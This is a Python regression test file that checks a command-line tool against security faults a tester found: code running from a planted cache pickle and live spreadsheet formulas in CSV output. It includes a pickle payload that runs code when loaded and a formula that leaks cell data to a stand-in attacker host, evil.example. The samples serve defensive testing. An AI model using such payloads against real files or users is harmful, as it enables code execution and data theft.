"""Security faults a hostile tester found, each reproduced on the command line so it stays fixed.

- S3: a pickle planted in the cache ran code during ``newinfra targets``;
- S5: ``targets --format csv`` and the charts' CSV kept ``=HYPERLINK(...)`` as a formula;
- S1: a ``javascript:`` address became a live link on a source page.
"""

from __future__ import annotations

import pickle
from pathlib import Path

from conftest import run_cli as cli


class Planted:
    """Unpickling this creates ``marker``: proof that the cache ran a planted pickle."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (open, (str(self.marker), "w"))


def test_a_pickle_planted_in_the_cache_never_runs(synthetic_project: Path, tmp_path: Path):
    # Was: every cache file was unpickled before it was checked; the pickle ran.
    cache = tmp_path / "cache"
    expected = cli(synthetic_project, "targets", cache=cache)
    assert expected.returncode == 0, expected.stderr[-2000:]
    files = sorted(cache.glob("*.pkl"))
    assert files, "nothing was cached"
    marker = tmp_path / "planted-pickle-ran"
    for path in files:  # the very files `targets` reads, under their real keys
        path.write_bytes(pickle.dumps(Planted(marker)))
    again = cli(synthetic_project, "targets", cache=cache)
    assert not marker.exists(), "a planted pickle was loaded"
    assert again.returncode == 0 and again.stderr == "", again.stderr[-2000:]
    assert again.stdout == expected.stdout


def _set_gloss(root: Path, gloss: str) -> None:
    import pandas as pd

    path = root / "data" / "annotations.csv"
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    frame.loc[0, "gloss_en"] = gloss
    frame.to_csv(path, index=False)


def test_targets_csv_keeps_no_formula_unless_raw(synthetic_project: Path, tmp_path: Path):
    # Was: `targets --format csv` printed =HYPERLINK(...) as it was, a live formula.
    import csv
    import io

    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
    _set_gloss(synthetic_project, formula)
    cache = tmp_path / "cache"

    def cells(*options: str) -> list[str]:
        result = cli(synthetic_project, "targets", "--format", "csv", *options, cache=cache)
        assert result.returncode == 0 and result.stderr == "", result.stderr[-2000:]
        return [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]

    inert = cells()
    assert formula not in inert and "'" + formula in inert
    assert not any(c.startswith(("=", "+", "@")) and len(c) > 1 for c in inert)
    assert formula in cells("--raw")
    usage = cli(synthetic_project, "targets", "--help", cache=cache).stdout
    assert "--raw" in usage and "formula" in usage
